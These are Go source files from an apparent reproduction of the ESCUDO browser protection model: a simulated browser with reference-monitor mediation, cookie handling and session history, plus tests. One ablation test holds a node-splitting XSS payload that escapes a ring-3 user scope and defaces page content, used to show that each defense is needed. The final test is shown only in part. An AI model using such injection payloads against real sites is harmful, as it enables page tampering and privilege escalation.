	// whole load — frames, subresource fetches, cookie attachments, and
	// every later operation through the page's monitor — so a policy
	// flip mid-flight never mixes generations within one load (standing
	// invariant 8; audited by core.AuditLog.GenerationMix). Nil leaves
	// the monitor stack exactly as before — no stamping layer at all.
	PolicyGen func() uint64
}

// PageRef identifies what a monitor is being built for: a page load
// (URL and page origin) or a request-scoped mediation such as cookie
// attachment (initiator origin only, empty URL).
type PageRef struct {
	// URL is the page URL; empty for request-scoped monitors.
	URL string
	// Origin is the page origin (page loads) or the initiating
	// principal's origin (request-scoped mediation).
	Origin origin.Origin
}

// MonitorFactory builds the reference-monitor stack for one page.
type MonitorFactory func(ref PageRef) core.Monitor

// Browser is one browsing session: a cookie jar, history, and a
// protection mode, attached to a transport.
type Browser struct {
	transport web.Transport
	jar       *cookie.Jar
	history   *History
	opts      Options
	// Console receives script log output from every page.
	Console *script.Console
	// Audit receives every access-control decision.
	Audit *core.AuditLog
	// trace is the causal trace of the task currently driving this
	// session (nil between tasks). The engine swaps it per task; the
	// monitor stack and fetch read it at decision/request time, so
	// pages and monitors built under an earlier task stamp with the
	// trace of the task actually asking.
	trace atomic.Pointer[obs.Trace]
	// stageClock is the latency-attribution clock of the current task
	// (nil when stage timing is off). Like trace it is swapped per
	// task by the engine; the monitor pipeline, script runner, and
	// render path accrue their spans on whatever clock is installed at
	// the moment they run. A nil clock costs nothing: the timing layer
	// is only composed while a clock is installed, and StageClock.Add
	// is a nil-safe no-op.
	stageClock atomic.Pointer[obs.StageClock]
	// curGen and curPage pin the policy generation and page identity of
	// the top-level load in flight (zero between loads). They are plain
	// fields: a browser is a single session driven by one goroutine at
	// a time, like the jar and history.
	curGen  uint64
	curPage uint64
}

// pageIDs mints process-unique page-load identities, so audit logs
// merged across sessions never collide on PageID.
var pageIDs atomic.Uint64

// New creates a browser on the given transport. All mediation (cookie
// attachment, DOM authorization, script confinement) happens on this
// side of the transport, so the same session produces the same
// verdicts whether the transport is the in-memory web.Network or a
// real socket client against an httpd.Gateway.
func New(t web.Transport, opts Options) *Browser {
	if opts.Mode == 0 {
		opts.Mode = ModeEscudo
	}
	if opts.ViewportWidth == 0 {
		opts.ViewportWidth = layout.DefaultViewportWidth
	}
	if opts.MaxScriptSteps == 0 {
		opts.MaxScriptSteps = 1_000_000
	}
	if opts.MaxFrameDepth == 0 {
		opts.MaxFrameDepth = 3
	}
	return &Browser{
		transport: t,
		jar:       &cookie.Jar{},
		history:   &History{},
		opts:      opts,
		Console:   &script.Console{},
		Audit:     &core.AuditLog{},
	}
}

// Mode returns the browser's protection mode.
func (b *Browser) Mode() Mode { return b.opts.Mode }

// SetTrace installs the causal trace for the task about to drive this
// session (nil clears it). Decisions and requests made while it is set
// carry its ID.
func (b *Browser) SetTrace(t *obs.Trace) { b.trace.Store(t) }

// Trace returns the session's current task trace, or nil.
func (b *Browser) Trace() *obs.Trace { return b.trace.Load() }

// SetStageClock installs the latency-attribution clock for the task
// about to drive this session (nil clears it). While set, the monitor
// pipeline accrues batch-authorization time and the script/render
// paths accrue their spans on it; the decisions themselves are
// untouched (invariant 9).
func (b *Browser) SetStageClock(c *obs.StageClock) { b.stageClock.Store(c) }

// StageClock returns the session's current stage clock, or nil.
func (b *Browser) StageClock() *obs.StageClock { return b.stageClock.Load() }

// Jar exposes the cookie jar (the test harness seeds sessions with
// it).
func (b *Browser) Jar() *cookie.Jar { return b.jar }

// History exposes the session history (ring-0 browser state).
func (b *Browser) History() *History { return b.history }

// Page is one loaded web page: the paper's "system".
type Page struct {
	browser *Browser
	// URL is the page's address.
	URL string
	// Origin is the page's web origin.
	Origin origin.Origin
	// Doc is the labeled DOM.
	Doc *dom.Document
	// Config is the ESCUDO configuration the response carried.
	Config core.PageConfig
	// Monitor is the reference monitor mediating this page.
	Monitor core.Monitor
	// Layout is the most recent layout result (nil when rendering is
	// disabled).
	Layout *layout.Result
	// Styles resolves CSS for the page (sheets from <style>
	// elements plus style attributes).
	Styles *css.Resolver
	// ScriptErrors collects errors from page script execution;
	// security denials land here when a script aborts on one.
	ScriptErrors []error
	// ConfigErrors collects malformed X-Escudo header values that
	// were degraded to fail-safe defaults.
	ConfigErrors []error
	// ranScripts tracks executed script elements so document.write
	// can trigger newly injected scripts without re-running old ones.
	ranScripts map[*html.Node]bool
	// PolicyGen and PageID record the control-plane generation this
	// load pinned and its unique load identity; zero without a
	// PolicyGen source. Every decision the page's monitor makes — at
	// load time or later — carries both.
	PolicyGen uint64
	PageID    uint64
	// Frames holds the nested pages loaded for this page's iframes,
	// in document order. Each frame is an independent ring system;
	// same-origin frames have compatible rings (§4 "Rings").
	Frames []*Frame
	// depth is this page's nesting level (0 for top-level pages).
	depth int
}

// Frame pairs an iframe element with the page loaded into it.
type Frame struct {
	// Element is the iframe element in the parent document.
	Element *html.Node
	// Page is the loaded sub-page (nil when the frame failed to
	// load).
	Page *Page
}

// monitorFor builds the reference monitor for a page (or a
// request-scoped mediation): the policy stack — from Options.
// MonitorFactory when set, else the Mode's base monitor under the
// shared decision cache — composed under the provenance layer and the
// browser's audit layer, so every decision is recorded exactly once
// whatever the stack. With a decision cache configured, the hot path
// is a sharded cache lookup and the rule evaluation only runs on
// misses. The provenance layer sits outside the cache (cached verdict
// rebuilds must stamp with the asking task's trace, not the warming
// task's) and inside audit (so audit records carry the stamps).
// The generation layer sits inside the provenance layer: ring events
// and audit records both carry the pinned generation.
func (b *Browser) monitorFor(ref PageRef) core.Monitor {
	gen, page := b.genStamp()
	m := core.Compose(b.policyMonitor(ref),
		core.WithGen(gen, page),
		core.WithObs(b.trace.Load, b.opts.DecisionRing),
		core.WithAudit(b.Audit))
	// Latency attribution is composed outermost, and only while a
	// clock is installed — an untimed session's monitors carry no
	// timing layer at all, so the hot path is byte-for-byte the stack
	// above. The clock is still resolved per call (b.stageClock.Load),
	// so a monitor built mid-task accrues onto whatever task is
	// actually asking.
	if b.stageClock.Load() != nil {
		m = core.WithStageTiming(b.stageClock.Load)(m)
	}
	return m
}

// genStamp resolves the generation and page identity a monitor built
// right now must pin. Inside a load both come from the load's capture;
// outside one (a post-load XHR's cookie attachment, say) the current
// generation is read fresh with no page identity — such decisions
// belong to no load and are skipped by the mixing audit. Without a
// PolicyGen source everything is zero and WithGen composes to nothing.
func (b *Browser) genStamp() (gen, page uint64) {
	if b.curPage != 0 {
		return b.curGen, b.curPage
	}
	if b.opts.PolicyGen != nil {
		return b.opts.PolicyGen(), 0
	}
	return 0, 0
}

// policyMonitor is the stack below the audit layer.
func (b *Browser) policyMonitor(ref PageRef) core.Monitor {
	if b.opts.MonitorFactory != nil {
		return b.opts.MonitorFactory(ref)
	}
	var base core.Monitor = &core.ERM{}
	if b.opts.Mode == ModeSOP {
		base = &core.SOPMonitor{}
	}
	return core.Compose(base, core.WithCache(b.opts.Cache))
}

// browserPrincipal is the browser itself acting at ring 0 within an
// origin (address-bar navigations, user event delivery).
func browserPrincipal(o origin.Origin) core.Context {
	return core.Principal(o, core.RingKernel, "browser")
}

// Back re-navigates to the previous history entry as a browser-level
// (ring 0) action. It returns nil with no error when there is no
// previous entry.
func (b *Browser) Back() (*Page, error) {
	prev, ok := b.history.Previous()
	if !ok {
		return nil, nil
	}
	return b.Navigate(prev)
}

// Navigate loads a URL as a user-typed (address bar) navigation.
func (b *Browser) Navigate(rawURL string) (*Page, error) {
	target, err := origin.Parse(rawURL)
	if err != nil {
		return nil, fmt.Errorf("browser: navigate: %w", err)
	}
	return b.load(rawURL, browserPrincipal(target), "address-bar")
}

// NavigateFrom loads a URL as a navigation initiated by a principal of
// an existing page (anchor click, script-set location, form GET). The
// initiator context governs cookie attachment under ESCUDO.
func (b *Browser) NavigateFrom(initiator core.Context, rawURL, label string) (*Page, error) {
	return b.load(rawURL, initiator, label)
}

// load runs the pipeline: fetch, configure, parse, subresources,
// render, scripts.
func (b *Browser) load(rawURL string, initiator core.Context, label string) (*Page, error) {
	return b.loadDepth(rawURL, initiator, label, 0)
}

// loadDepth is load with frame-nesting bookkeeping. With a control
// plane attached, the OUTERMOST load captures the policy generation
// once, before its first fetch; nested frame loads and every monitor
// built during the load inherit that capture, so the whole load —
// frames included — observes exactly one generation.
func (b *Browser) loadDepth(rawURL string, initiator core.Context, label string, depth int) (*Page, error) {
	if b.opts.PolicyGen != nil && b.curPage == 0 {
		b.curGen, b.curPage = b.opts.PolicyGen(), pageIDs.Add(1)
		defer func() { b.curGen, b.curPage = 0, 0 }()
	}
	resp, err := b.fetch("GET", rawURL, nil, initiator, label)
	if err != nil {
		return nil, err
	}
	// Follow redirects, preserving the ORIGINAL initiator: a
	// cross-site principal must not have its request laundered into
	// a browser-privileged one by a 303 hop, or the redirect target
	// would receive cookies the initiator could never use.
	for i := 0; i < 4 && resp.Status == 303; i++ {
		loc := resp.Header.Get("Location")
		next, rerr := origin.Resolve(rawURL, loc)
		if rerr != nil {
			return nil, fmt.Errorf("browser: redirect: %w", rerr)
		}
		rawURL = next
		resp, err = b.fetch("GET", rawURL, nil, initiator, "redirect")
		if err != nil {
			return nil, err
		}
	}
	page, err := b.buildPage(rawURL, resp)
	if err != nil {
		return nil, err
	}
	page.depth = depth
	if depth == 0 {
		b.history.Visit(rawURL)
	}
	b.loadSubresources(page)
	page.buildStyles()
	if !b.opts.DisableRender {
		renderStart := time.Now()
		page.Layout = layout.LayoutHidden(page.Doc.Root, b.opts.ViewportWidth, page.renderHidden())
		b.stageClock.Load().Add(obs.StageRender, time.Since(renderStart))
	}
	if !b.opts.DisableScripts {
		page.runStyleExpressions()
		page.runScripts()
	}
	return page, nil
}

// buildStyles parses every <style> element into the page's resolver.
func (p *Page) buildStyles() {
	var sheets []*css.Stylesheet
	for _, s := range p.Doc.ByTag("style") {
		sheets = append(sheets, css.Parse(html.InnerText(s)))
	}
	p.Styles = css.NewResolver(sheets...)
}

// hiddenNodes computes the CSS display:none set for layout.
func (p *Page) hiddenNodes() map[*html.Node]bool {
	if p.Styles == nil {
		return nil
	}
	return p.Styles.HiddenSet(p.Doc.Root)
}

// renderHidden computes the node set layout must skip: the CSS
// display:none set plus any element the mediated render read was
// denied. Laying a page out is the browser (ring 0) reading the
// document, so the traversal flows through the reference monitor like
// any other region read — batch-authorized by equivalence class (a
// page of n elements costs k ≤ n decision computations, each element
// audited; text renders under its element's authority). A ring-0
// same-origin reader is never denied under ESCUDO or SOP, but the
// mediation is complete either way, and a future monitor that does
// deny (e.g. a delegation policy) simply sees those nodes unrendered.
func (p *Page) renderHidden() map[*html.Node]bool {
	hidden := p.hiddenNodes()
	api := dom.NewAPI(p.Doc, browserPrincipal(p.Origin), p.Monitor)
	denied, err := api.AuthorizeRenderRegion(p.Doc.Root)
	if err != nil {
		// The document root itself was denied: render nothing.
		return map[*html.Node]bool{p.Doc.Root: true}
	}
	if len(denied) == 0 {
		return hidden
	}
	if hidden == nil {
		return denied
	}
	for n := range denied {
		hidden[n] = true
	}
	return hidden
}

// runStyleExpressions executes every CSS expression() as a
// script-invoking principal under its style element's security
// context (Table 1: "Script-invoking principals are HTML constructs
// such as script and the CSS expression").
func (p *Page) runStyleExpressions() {
	for _, styleEl := range p.Doc.ByTag("style") {
		sheet := css.Parse(html.InnerText(styleEl))
		for _, decl := range sheet.Expressions() {
			body, _ := decl.IsExpression()
			principal := core.Context{
				Origin: p.Origin,
				Ring:   styleEl.Ring,
				ACL:    styleEl.ACL,
				Label:  "css-expression@style",
			}
			if err := p.RunScriptAs(principal, body); err != nil {
				p.ScriptErrors = append(p.ScriptErrors, err)
			}
		}
	}
}

// buildPage turns a response into a labeled page without running
// scripts or layout (exported pipeline steps use it; benchmarks time
// it separately).
func (b *Browser) buildPage(rawURL string, resp *web.Response) (*Page, error) {
	pageOrigin, err := origin.Parse(rawURL)
	if err != nil {
		return nil, fmt.Errorf("browser: %w", err)
	}
	page := &Page{browser: b, URL: rawURL, Origin: pageOrigin, Monitor: b.monitorFor(PageRef{URL: rawURL, Origin: pageOrigin})}
	page.PolicyGen, page.PageID = b.curGen, b.curPage

	// Extract ESCUDO configuration (ignored entirely in SOP mode —
	// a legacy browser does not know these headers, §6.3).
	if b.opts.Mode == ModeEscudo {
		cfg, errs := core.ParsePageConfig(
			resp.Header.Values(core.HeaderMaxRing),
			resp.Header.Values(core.HeaderCookie),
			resp.Header.Values(core.HeaderAPI),
		)
		page.Config = cfg
		page.ConfigErrors = errs
	} else {
		page.Config = core.DefaultPageConfig()
	}

	// (Cookies were already stored by fetch when the response
	// arrived.)

	// Parse with the mode's labeling. A configured page defaults
	// unlabeled regions to the least privileged ring with the
	// fail-safe ACL (§4.3); an unconfigured page is a single-ring
	// system, i.e. the SOP (§6.3).
	opts := html.LegacyOptions()
	if b.opts.Mode == ModeEscudo {
		if page.Config.Configured() {
			opts = html.Options{
				Escudo:   true,
				MaxRing:  page.Config.MaxRing,
				BaseRing: page.Config.MaxRing,
				BaseACL:  core.ACL{},
			}
		} else {
			opts = html.Options{Escudo: true, MaxRing: 0, BaseRing: 0, BaseACL: core.UniformACL(0)}
		}
		opts.AblateNonceDefense = b.opts.AblateNonceDefense
		opts.AblateScopingRule = b.opts.AblateScopingRule
	}
	page.Doc = dom.NewDocument(pageOrigin, resp.Body, opts)
	return page, nil
}

// fetch issues one HTTP request, mediating cookie attachment.
func (b *Browser) fetch(method, rawURL string, form url.Values, initiator core.Context, label string) (*web.Response, error) {
	req := web.NewRequest(method, rawURL)
	if form != nil {
		req.Form = form
	}
	req.InitiatorOrigin = initiator.Origin
	req.InitiatorLabel = label
	req.TraceID = b.trace.Load().ID()

	// The request memoizes its URL parse; deriving the target through
	// it means RoundTrip's own routing lookup reuses the same parse.
	target, err := req.TargetOrigin()
	if err != nil {
		return nil, fmt.Errorf("browser: fetch %q: %w", rawURL, err)
	}
	b.attachCookies(req, target, initiator)
	resp, err := b.transport.RoundTrip(req)
	if err != nil {
		return nil, err
	}
	b.storeCookies(target, resp)
	return resp, nil
}

// storeCookies installs every Set-Cookie of a response, labeling the
// cookies from the response's own X-Escudo-Cookie headers (§4.1: the
// ring assignment travels with the response that sets the cookie).
func (b *Browser) storeCookies(setter origin.Origin, resp *web.Response) {
	setCookies := resp.Header.Values("Set-Cookie")
	if len(setCookies) == 0 {
		return
	}
	cfg := core.DefaultPageConfig()
	if b.opts.Mode == ModeEscudo {
		cfg, _ = core.ParsePageConfig(
			resp.Header.Values(core.HeaderMaxRing),
			resp.Header.Values(core.HeaderCookie),
			resp.Header.Values(core.HeaderAPI),
		)
	}
	for _, sc := range setCookies {
		c, err := cookie.ParseSetCookie(sc, setter)
		if err != nil {
			continue
		}
		c.Ring, c.ACL = cfg.CookieRing(c.Name)
		b.jar.Set(c)
	}
}

// attachCookies implements the use-mediated cookie attachment of §4.1.
// In SOP mode cookies always attach to the target's requests — the
// very weakness CSRF abuses. In ESCUDO mode each cookie is an object
// and attachment is a use operation by the initiating principal.
func (b *Browser) attachCookies(req *web.Request, target origin.Origin, initiator core.Context) {
	matching := b.jar.Matching(target, req.Path())
	if len(matching) == 0 {
		return
	}
	monitor := b.monitorFor(PageRef{Origin: initiator.Origin})
	var attached []cookie.Cookie
	for _, c := range matching {
		if b.opts.Mode == ModeSOP {
			attached = append(attached, c)
			continue
		}
		if monitor.Authorize(initiator, core.OpUse, c.Context()).Allowed {
			attached = append(attached, c)
		}
	}
	if len(attached) > 0 {
		req.Header.Set("Cookie", cookie.Header(attached))
	}
}

// loadSubresources fetches img/iframe/embed sources found at parse
// time. Each element is an HTTP-request-issuing principal (Table 1):
// the fetch's initiator is the element's own security context, so a
// ring-3 img in user content cannot make the victim's ring-1 session
// cookie travel with its request.
func (b *Browser) loadSubresources(page *Page) {
	html.Walk(page.Doc.Root, func(n *html.Node) bool {
		if n.Type != html.ElementNode {
			return true
		}
		switch n.Tag {
		case "img", "iframe", "embed":
			src, ok := n.Attr("src")
			if !ok || src == "" {
				return true
			}
			abs, err := origin.Resolve(page.URL, src)
			if err != nil {
				return true
			}
			initiator := core.Context{
				Origin: page.Origin,
				Ring:   n.Ring,
				ACL:    n.ACL,
				Label:  n.Tag,
			}
			if n.Tag == "iframe" && page.depth < b.opts.MaxFrameDepth {
				// Frames load as full nested pages — independent
				// ring systems hosted in the same browser (§4).
				// Load failures leave a nil-page frame; the fetch
				// attempt is in the request log either way.
				sub, ferr := b.loadDepth(abs, initiator, "iframe", page.depth+1)
				if ferr != nil {
					sub = nil
				}
				page.Frames = append(page.Frames, &Frame{Element: n, Page: sub})
				return true
			}
			// Subresource failures (missing hosts) are expected for
			// attack pages; the request log still records the attempt.
			_, _ = b.fetch("GET", abs, nil, initiator, n.Tag)
		}
		return true
	})
}

// runScripts executes every not-yet-run <script> element in document
// order, each under its own element's security context — this is how
// a ring-3 script injected into user content ends up with ring-3
// privileges. document.write re-invokes it to execute newly written
// scripts exactly once.
func (p *Page) runScripts() {
	if p.ranScripts == nil {
		p.ranScripts = map[*html.Node]bool{}
	}
	for _, s := range p.Doc.ByTag("script") {
		if p.ranScripts[s] {
			continue
		}
		p.ranScripts[s] = true
		src := html.InnerText(s)
		if strings.TrimSpace(src) == "" {
			continue
		}
		principal := core.Context{
			Origin: p.Origin,
			Ring:   s.Ring,
			ACL:    s.ACL,
			Label:  scriptLabel(s),
		}
		if err := p.RunScriptAs(principal, src); err != nil {
			p.ScriptErrors = append(p.ScriptErrors, err)
		}
	}
}

func scriptLabel(n *html.Node) string {
	if id, ok := n.Attr("id"); ok {
		return "script#" + id
	}
	return "script"
}

// RunScriptAs executes source with the given principal's bindings:
// document, window, and XMLHttpRequest, all mediated by the page's
// monitor. Scripts run on the compiled engine: the body is lowered
// once through the process-wide compile cache (repeat executions of a
// hot <script> across pages and sessions skip parse and lowering) and
// executed by a fresh VM whose fuel budget is MaxScriptSteps.
func (p *Page) RunScriptAs(principal core.Context, src string) error {
	start := time.Now()
	c, err := script.CompileCached(src)
	if err != nil {
		p.browser.stageClock.Load().Add(obs.StageScriptVM, time.Since(start))
		return err
	}
	env := p.scriptEnv(principal)
	vm := &script.VM{MaxSteps: p.browser.opts.MaxScriptSteps}
	_, err = vm.Run(c, env)
	// The span covers compile-cache probe and VM execution. Monitor
	// calls the script makes accrue on batch_auth as well, so script
	// and batch spans can nest — attribution, not a partition.
	p.browser.stageClock.Load().Add(obs.StageScriptVM, time.Since(start))
	return err
}

// RunScriptRing is RunScriptAs with a same-origin principal at the
// given ring — the common case in tests and examples.
func (p *Page) RunScriptRing(ring core.Ring, label, src string) error {
	return p.RunScriptAs(core.Principal(p.Origin, ring, label), src)
}

// SubmitForm submits the form element: gathers its input/textarea
// values, resolves the action, and issues the request with the form
// element as the HTTP-request-issuing principal. extra overrides or
// adds fields (how attack pages pre-fill hostile values).
func (p *Page) SubmitForm(form *html.Node, extra url.Values) (*web.Response, error) {
	if form == nil || form.Tag != "form" {
		return nil, errors.New("browser: SubmitForm needs a form element")
	}
	action, _ := form.Attr("action")
	if action == "" {
		action = p.URL
	}
	abs, err := origin.Resolve(p.URL, action)
	if err != nil {
		return nil, fmt.Errorf("browser: form action: %w", err)
	}
	method := "POST"
	if m, ok := form.Attr("method"); ok && strings.EqualFold(m, "get") {
		method = "GET"
	}
	fields := url.Values{}
	html.Walk(form, func(n *html.Node) bool {
		if n.Type == html.ElementNode && (n.Tag == "input" || n.Tag == "textarea") {
			name, ok := n.Attr("name")
			if !ok || name == "" {
				return true
			}
			if n.Tag == "textarea" {
				fields.Set(name, html.InnerText(n))
			} else {
				v, _ := n.Attr("value")
				fields.Set(name, v)
			}
		}
		return true
	})
	for k, vs := range extra {
		fields[k] = vs
	}
	initiator := core.Context{Origin: p.Origin, Ring: form.Ring, ACL: form.ACL, Label: formLabel(form)}
	return p.browser.fetch(method, abs, fields, initiator, formLabel(form))
}

func formLabel(n *html.Node) string {
	if id, ok := n.Attr("id"); ok {
		return "form#" + id
	}
	return "form"
}

// ClickAnchor follows an anchor: issues the GET with the anchor as the
// HTTP-request-issuing principal and returns the resulting page.
func (p *Page) ClickAnchor(a *html.Node) (*Page, error) {
	if a == nil || a.Tag != "a" {
		return nil, errors.New("browser: ClickAnchor needs an anchor element")
	}
	href, ok := a.Attr("href")
	if !ok {
		return nil, errors.New("browser: anchor has no href")
	}
	abs, err := origin.Resolve(p.URL, href)
	if err != nil {
		return nil, fmt.Errorf("browser: anchor href: %w", err)
	}
	initiator := core.Context{Origin: p.Origin, Ring: a.Ring, ACL: a.ACL, Label: "a"}
	return p.browser.NavigateFrom(initiator, abs, "a")
}

// DispatchEvent delivers a UI event to the element: the delivery is a
// use of the element by the dispatching principal (§4.1's second
// implicit access), and the element's own on<event> handler then runs
// with the element's security context. User-originated events pass
// nil as principal, meaning the browser (ring 0) delivers.
func (p *Page) DispatchEvent(target *html.Node, event string, principal *core.Context) error {
	if target == nil {
		return errors.New("browser: DispatchEvent needs a target")
	}
	deliverer := browserPrincipal(p.Origin)
	if principal != nil {
		deliverer = *principal
	}
	d := p.Monitor.Authorize(deliverer, core.OpUse, p.Doc.NodeContext(target))
	if !d.Allowed {
		return &dom.DeniedError{Decision: d}
	}
	handler, ok := target.Attr("on" + event)
	if !ok || strings.TrimSpace(handler) == "" {
		return nil
	}
	handlerPrincipal := core.Context{
		Origin: p.Origin,
		Ring:   target.Ring,
		ACL:    target.ACL,
		Label:  "on" + event + "@" + target.Tag,
	}
	return p.RunScriptAs(handlerPrincipal, handler)
}

// RenderText lays the page out afresh (scripts may have mutated the
// DOM since the load-time layout) and paints it as text. Like the
// load-time layout, the traversal's reads are batch-authorized.
func (p *Page) RenderText() string {
	start := time.Now()
	p.buildStyles()
	p.Layout = layout.LayoutHidden(p.Doc.Root, p.browser.opts.ViewportWidth, p.renderHidden())
	out := layout.RenderText(p.Layout, p.browser.opts.ViewportWidth)
	p.browser.stageClock.Load().Add(obs.StageRender, time.Since(start))
	return out
}
