package browser

import (
	"sync"

	"repro/internal/core"
	"repro/internal/origin"
)

// History is the browser's session history — part of the browser
// state that ESCUDO "mandatorily assigns ... to ring 0" (§4.1):
// JavaScript programs cannot read or manipulate it unless they run in
// ring 0, closing the visited-link privacy attacks of Jackson et al.
// cited by the paper.
type History struct {
	mu      sync.RWMutex
	entries []string
	visited map[string]bool
}

// Visit appends a URL to the history and marks it visited.
func (h *History) Visit(url string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.entries = append(h.entries, url)
	if h.visited == nil {
		h.visited = map[string]bool{}
	}
	h.visited[url] = true
}

// Len returns the number of history entries.
func (h *History) Len() int {
	h.mu.RLock()
	defer h.mu.RUnlock()
	return len(h.entries)
}

// Entries returns a copy of the history.
func (h *History) Entries() []string {
	h.mu.RLock()
	defer h.mu.RUnlock()
	out := make([]string, len(h.entries))
	copy(out, h.entries)
	return out
}

// Previous returns the URL before the current one, for back
// navigation; ok is false at the start of the session.
func (h *History) Previous() (string, bool) {
	h.mu.RLock()
	defer h.mu.RUnlock()
	if len(h.entries) < 2 {
		return "", false
	}
	return h.entries[len(h.entries)-2], true
}

// Visited reports whether the URL has been visited — the signal the
// visited-link sniffing attacks read.
func (h *History) Visited(url string) bool {
	h.mu.RLock()
	defer h.mu.RUnlock()
	return h.visited[url]
}

// Context returns the browser-state object context for an origin:
// always ring 0, ring-0 ACL, non-configurable (§4.1 "In our current
// model, the ring assignment of browser state is not configurable").
func historyContext(o origin.Origin) core.Context {
	return core.Object(o, core.RingKernel, core.UniformACL(core.RingKernel), "browser-state history")
}
