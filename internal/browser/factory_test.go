package browser

import (
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/mashup"
	"repro/internal/origin"
	"repro/internal/web"
)

// portalMarkup is a mashup host page: ring-1 chrome and a ring-2
// widget slot, served with full ESCUDO configuration.
const portalMarkup = `<html><body>` +
	`<div ring=1 r=1 w=1 x=1 id=chrome><h1 id=title>My Portal</h1></div>` +
	`<div ring=2 r=2 w=2 x=2 id=slot>loading</div>` +
	`</body></html>`

// newPortalNetwork serves the portal page at portal.example.
func newPortalNetwork(portal origin.Origin) *web.Network {
	net := web.NewNetwork()
	net.Register(portal, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(portalMarkup)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	return net
}

// TestMonitorFactoryMountsMashupMonitor is the tentpole wiring test:
// a MashupMonitor built by Options.MonitorFactory mediates a REAL
// browsing session — the §7 delegation model runs inside the page
// pipeline, not just against a hand-built DOM.
func TestMonitorFactoryMountsMashupMonitor(t *testing.T) {
	portal := origin.MustParse("http://portal.example")
	widget := origin.MustParse("http://widget.example")
	rogue := origin.MustParse("http://rogue.example")

	pol := mashup.NewPolicy()
	pol.Delegate(mashup.Delegation{Host: portal, Guest: widget, Floor: 2})

	var refs []PageRef
	b := New(newPortalNetwork(portal), Options{
		Mode: ModeEscudo,
		MonitorFactory: func(ref PageRef) core.Monitor {
			refs = append(refs, ref)
			return &mashup.Monitor{Policy: pol}
		},
	})
	p, err := b.Navigate(portal.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(refs) == 0 || refs[len(refs)-1].Origin != portal {
		t.Fatalf("factory refs = %+v, want a page ref for %s", refs, portal)
	}

	// The delegated guest renders into its rented slot...
	if err := p.RunScriptAs(core.Principal(widget, 0, "widget"),
		`document.getElementById("slot").innerHTML = "<p id=forecast>Sunny</p>";`); err != nil {
		t.Fatalf("delegated slot write failed: %v", err)
	}
	if got := html.InnerText(p.Doc.ByID("slot")); !strings.Contains(got, "Sunny") {
		t.Fatalf("slot = %q, want the widget's content", got)
	}

	// ...but cannot reach the ring-1 chrome (ring rule, floored)...
	if err := p.RunScriptAs(core.Principal(widget, 0, "widget"),
		`document.getElementById("title").innerHTML = "pwned";`); err == nil {
		t.Fatal("floored guest rewrote ring-1 chrome")
	}

	// ...and an undeclared origin gets pure origin-rule denials.
	if err := p.RunScriptAs(core.Principal(rogue, 0, "rogue"),
		`var x = document.getElementById("slot").innerHTML;`); err == nil {
		t.Fatal("rogue origin read the portal DOM")
	}

	// The browser's audit layer recorded the denials even though the
	// factory's monitor carries no trace hooks of its own.
	var sawRing, sawOrigin bool
	for _, d := range b.Audit.Denials() {
		switch d.Rule {
		case core.RuleRing:
			sawRing = true
		case core.RuleOrigin:
			sawOrigin = true
		}
	}
	if !sawRing || !sawOrigin {
		t.Fatalf("audit denials missing rules: ring=%v origin=%v (%v)", sawRing, sawOrigin, b.Audit.Denials())
	}
}

// TestMonitorFactoryComposedPipelineEquivalence drives the same
// session through the default stack and through a factory returning
// the equivalent composed pipeline, and demands identical audit
// decision sequences — the factory seam must not change semantics.
func TestMonitorFactoryComposedPipelineEquivalence(t *testing.T) {
	site := origin.MustParse("http://app.example")
	build := func() *web.Network {
		net := web.NewNetwork()
		net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
			resp := web.HTML(`<html><body><div ring=1 r=1 w=1 x=1 id=app>hi</div>` +
				`<div ring=3 r=2 w=2 x=2 id=user>there</div></body></html>`)
			resp.Header.Set(core.HeaderMaxRing, "3")
			resp.Header.Add("Set-Cookie", "sid=tok; Path=/")
			resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
			return resp
		}))
		return net
	}

	run := func(opts Options) *Browser {
		b := New(build(), opts)
		if _, err := b.Navigate(site.URL("/")); err != nil {
			t.Fatal(err)
		}
		// Second navigation attaches the cookie (use mediation).
		if _, err := b.Navigate(site.URL("/")); err != nil {
			t.Fatal(err)
		}
		return b
	}

	defCache := core.NewDecisionCache()
	defB := run(Options{Mode: ModeEscudo, Cache: defCache})

	facCache := core.NewDecisionCache()
	facB := run(Options{Mode: ModeEscudo, MonitorFactory: func(PageRef) core.Monitor {
		return core.Compose(&core.ERM{}, core.WithCache(facCache))
	}})

	defSeq, facSeq := defB.Audit.All(), facB.Audit.All()
	if len(defSeq) == 0 {
		t.Fatal("default stack recorded no decisions")
	}
	if len(defSeq) != len(facSeq) {
		t.Fatalf("decision counts diverge: default %d, factory %d", len(defSeq), len(facSeq))
	}
	for i := range defSeq {
		if defSeq[i] != facSeq[i] {
			t.Fatalf("decision %d diverges:\n default: %v\n factory: %v", i, defSeq[i], facSeq[i])
		}
	}
}
