package browser

import (
	"testing"

	"repro/internal/html"
)

// End-to-end ablations: with a single §5 defense switched off, the
// corresponding attack class goes through even in an otherwise fully
// enforcing ESCUDO browser. This is the evidence that every defense
// is individually load-bearing.

// nodeSplitUserContent is the §5(2) attack payload: escape the ring-3
// scope and run a defacing script at ring 0.
const nodeSplitUserContent = `</div><div ring=0 id=escaped>` +
	`<script>document.getElementById("appmsg").innerText = "DEFACED";</script></div>`

func TestAblationNonceDefenseEndToEnd(t *testing.T) {
	// With the defense: neutralized.
	b := New(securityNetwork(nodeSplitUserContent), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if got := html.InnerText(p.Doc.ByID("appmsg")); got != "trusted" {
		t.Fatalf("with defense: app content = %q", got)
	}

	// Without it: the injected scope reaches ring 0 and the attack
	// succeeds.
	b = New(securityNetwork(nodeSplitUserContent), Options{Mode: ModeEscudo, AblateNonceDefense: true})
	p, err = b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if esc := p.Doc.ByID("escaped"); esc == nil || esc.Ring != 0 {
		t.Fatalf("ablated: escaped div = %+v, want ring 0", esc)
	}
	if got := html.InnerText(p.Doc.ByID("appmsg")); got != "DEFACED" {
		t.Errorf("ablated: app content = %q — the attack should have succeeded", got)
	}
}

func TestAblationScopingRuleEndToEnd(t *testing.T) {
	// Nested privileged AC tag inside the sealed user scope. The
	// nonce defense does not apply (no forged closer); only the
